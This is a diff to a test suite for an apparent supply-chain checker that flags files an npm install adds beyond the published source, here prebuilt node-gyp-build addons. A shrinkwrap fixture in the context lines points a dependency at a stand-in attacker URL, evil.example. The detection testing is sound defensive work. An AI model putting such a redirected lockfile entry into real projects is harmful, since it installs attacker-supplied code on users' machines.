@@ -62,6 +62,20 @@ describe('files an install runs, absent from the source', () => {
     expect(verdict({ 'package.json': manifest, 'node_modules/b/package.json': pj({ name: 'b', version: '1.0.0' }) }, { 'package.json': manifest }).verdict).toBe('built');
   });
 
+  test('node-gyp-build loads a prebuilt or built addon at install: one absent from the source is diverged', () => {
+    const manifest = pj({ name: 'p', version: '1.0.0', scripts: { install: 'node-gyp-build' } });
+    const source = { 'package.json': manifest, 'binding.gyp': '{}', 'index.js': 'module.exports = require("node-gyp-build")(__dirname)' };
+    const prebuilt = verdict({ ...source, 'prebuilds/linux-x64/node.napi.node': 'ELF', 'prebuilds/linux-x64/README': 'x' }, source);
+    expect(prebuilt).toMatchObject({ verdict: 'diverged', files: { added: ['prebuilds/linux-x64/node.napi.node'] } });
+    expect(verdict({ ...source, 'build/Release/addon.node': 'ELF' }, source).files!.added).toEqual(['build/Release/addon.node']);
+    const optional = pj({ name: 'p', version: '1.0.0', scripts: { install: 'node-gyp-build-optional-packages' } });
+    expect(verdict({ ...source, 'package.json': optional, 'prebuilds/darwin-arm64/p.node': 'x' }, { ...source, 'package.json': optional }).verdict).toBe('diverged');
+    // Not loaded at install without node-gyp-build: build output, and a .node file elsewhere is not one it loads.
+    const plain = pj({ name: 'p', version: '1.0.0' });
+    expect(verdict({ 'package.json': plain, 'prebuilds/linux-x64/node.napi.node': 'ELF' }, { 'package.json': plain }).verdict).toBe('built');
+    expect(verdict({ ...source, 'lib/other.node': 'ELF' }, source).verdict).toBe('built');
+  });
+
   test('an npm-shrinkwrap.json absent from the source decides the dependencies npm installs', () => {
     const manifest = pj({ name: 'p', version: '1.0.0', dependencies: { a: '^1.0.0' } });
     const shrinkwrap = JSON.stringify({ lockfileVersion: 3, packages: { 'node_modules/a': { version: '1.0.0', resolved: 'https://evil.example/a.tgz' } } });
